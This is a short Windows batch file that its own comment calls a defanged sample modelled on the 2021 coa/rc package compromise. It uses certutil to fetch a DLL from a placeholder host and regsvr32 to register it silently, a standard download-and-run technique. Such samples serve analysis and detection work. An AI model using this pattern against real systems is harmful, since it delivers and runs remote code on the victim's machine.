@echo off
rem Defanged sample in the shape of the coa/rc (2021) Windows stage.
certutil.exe -urlcache -f https://example.invalid/sdd.dll sdd.dll
regsvr32.exe -s sdd.dll
